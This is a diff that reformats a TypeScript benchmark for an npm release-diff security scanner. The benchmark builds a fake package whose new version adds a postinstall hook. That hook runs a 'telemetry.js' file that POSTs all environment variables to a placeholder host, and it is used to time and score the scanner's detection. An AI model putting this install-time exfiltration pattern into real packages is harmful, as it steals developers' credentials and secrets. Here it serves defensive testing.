@@ -20,7 +20,30 @@ const targetBytes = (Number(process.argv[2]) || 5) * 1024 * 1024;
 const root = join(import.meta.dirname, '..', 'node_modules');
 const files: { path: string; data: Buffer }[] = [];
 let total = 0;
-for (const pkg of ['yaml', 'undici', 'ajv', 'acorn', 'semver', 'acorn-loose', 'acorn-walk', 'ini', 'tar-stream', 'packageurl-js', 'npm-package-arg', '@yarnpkg/parsers', 'ssri', 'fzstd', '@cyclonedx/cyclonedx-library', 'piscina', 'yauzl', '@yarnpkg/lockfile', 'xz-decompress', 'ajv-formats', 'tsx', 'esbuild']) {
+for (const pkg of [
+  'yaml',
+  'undici',
+  'ajv',
+  'acorn',
+  'semver',
+  'acorn-loose',
+  'acorn-walk',
+  'ini',
+  'tar-stream',
+  'packageurl-js',
+  'npm-package-arg',
+  '@yarnpkg/parsers',
+  'ssri',
+  'fzstd',
+  '@cyclonedx/cyclonedx-library',
+  'piscina',
+  'yauzl',
+  '@yarnpkg/lockfile',
+  'xz-decompress',
+  'ajv-formats',
+  'tsx',
+  'esbuild',
+]) {
   const walk = (d: string, rel: string) => {
     for (const f of readdirSync(d).sort()) {
       if (total >= targetBytes) return;
@@ -52,24 +75,42 @@ async function tgz(entries: { path: string; data: Buffer }[]): Promise<Buffer> {
   return gzipSync(Buffer.concat(chunks));
 }
 
-const manifest = (v: string, scripts?: Record<string, string>) => Buffer.from(JSON.stringify({ name: 'big-lib', version: v, main: 'vendor/yaml/dist/index.js', ...(scripts ? { scripts } : {}) }));
+const manifest = (v: string, scripts?: Record<string, string>) =>
+  Buffer.from(JSON.stringify({ name: 'big-lib', version: v, main: 'vendor/yaml/dist/index.js', ...(scripts ? { scripts } : {}) }));
 const v1 = [{ path: 'package.json', data: manifest('3.1.0') }, ...files];
 const v2 = [
   { path: 'package.json', data: manifest('3.1.1', { postinstall: 'node vendor/telemetry.js' }) },
   ...files.map((f, i) => (i % 50 === 7 ? { path: f.path, data: Buffer.concat([f.data, Buffer.from('\n// patched\n')]) } : f)),
-  { path: 'vendor/telemetry.js', data: Buffer.from("const https = require('https');\nhttps.request({ hostname: 'example.invalid', method: 'POST' }).end(JSON.stringify(process.env));\n") },
+  {
+    path: 'vendor/telemetry.js',
+    data: Buffer.from(
+      "const https = require('https');\nhttps.request({ hostname: 'example.invalid', method: 'POST' }).end(JSON.stringify(process.env));\n",
+    ),
+  },
 ];
 const [t1, t2] = await Promise.all([tgz(v1), tgz(v2)]);
 const reg = await startRegistryServer();
-const version = (v: string, b: Buffer) => ({ name: 'big-lib', version: v, dist: { tarball: `{{registry}}big-lib/-/big-lib-${v}.tgz`, integrity: ssri.fromData(b, { algorithms: ['sha512'] }).toString() } });
-reg.addPackument('big-lib', { name: 'big-lib', 'dist-tags': { latest: '3.1.1' }, versions: { '3.1.0': version('3.1.0', t1), '3.1.1': version('3.1.1', t2) } });
+const version = (v: string, b: Buffer) => ({
+  name: 'big-lib',
+  version: v,
+  dist: { tarball: `{{registry}}big-lib/-/big-lib-${v}.tgz`, integrity: ssri.fromData(b, { algorithms: ['sha512'] }).toString() },
+});
+reg.addPackument('big-lib', {
+  name: 'big-lib',
+  'dist-tags': { latest: '3.1.1' },
+  versions: { '3.1.0': version('3.1.0', t1), '3.1.1': version('3.1.1', t2) },
+});
 reg.addTarball('big-lib', '3.1.0', t1);
 reg.addTarball('big-lib', '3.1.1', t2);
 
 const dir = mkdtempSync(join(tmpdir(), 'vigil-diff-speed-'));
 const store = openStore({ path: join(dir, 'vigil.db') });
 const client = createNpmClient({ config: { registry: { value: reg.url, source: 'bench' }, scopes: {}, auth: [], proxy: {} }, store });
-const npm = { registryUrl: () => reg.url, getPackument: (n: string) => client.getPackument(n), getTarball: (n: string, v: string, o: { integrity?: string }) => client.getTarball(n, v, o) };
+const npm = {
+  registryUrl: () => reg.url,
+  getPackument: (n: string) => client.getPackument(n),
+  getTarball: (n: string, v: string, o: { integrity?: string }) => client.getTarball(n, v, o),
+};
 const run = async () => {
   const t = performance.now();
   const r = await diffNpm(['npm:big-lib@3.1.1'], { npm, factsCache: store });
@@ -79,11 +120,19 @@ const cold = await run();
 const warm: number[] = [];
 for (let i = 0; i < 5; i++) warm.push((await run()).ms);
 warm.sort((a, b) => a - b);
-const d = cold.r.facts['release-diff']?.['pkg:npm/big-lib@3.1.1'] as { files: { changed: number; added: number; sizeAfter: number }; score: number; severity: string };
-console.log(`package: ${files.length + 1} files, ${(d.files.sizeAfter / 1048576).toFixed(2)} MiB unpacked, tarballs ${(t1.length / 1048576).toFixed(2)} + ${(t2.length / 1048576).toFixed(2)} MiB gzip`);
+const d = cold.r.facts['release-diff']?.['pkg:npm/big-lib@3.1.1'] as {
+  files: { changed: number; added: number; sizeAfter: number };
+  score: number;
+  severity: string;
+};
+console.log(
+  `package: ${files.length + 1} files, ${(d.files.sizeAfter / 1048576).toFixed(2)} MiB unpacked, tarballs ${(t1.length / 1048576).toFixed(2)} + ${(t2.length / 1048576).toFixed(2)} MiB gzip`,
+);
 console.log(`delta: +${d.files.added} ~${d.files.changed} files, score ${d.score} (${d.severity}), ${cold.r.findings.length} findings`);
 console.log(`cold (fetch + verify + store + diff): ${cold.ms.toFixed(0)} ms`);
-console.log(`warm (tarballs and content facts from the store, read both archives, diff): median ${warm[2]!.toFixed(0)} ms (min ${warm[0]!.toFixed(0)}, max ${warm[4]!.toFixed(0)})`);
+console.log(
+  `warm (tarballs and content facts from the store, read both archives, diff): median ${warm[2]!.toFixed(0)} ms (min ${warm[0]!.toFixed(0)}, max ${warm[4]!.toFixed(0)})`,
+);
 console.log(`requests served: ${reg.count()}`);
 await client.close();
 store.close();
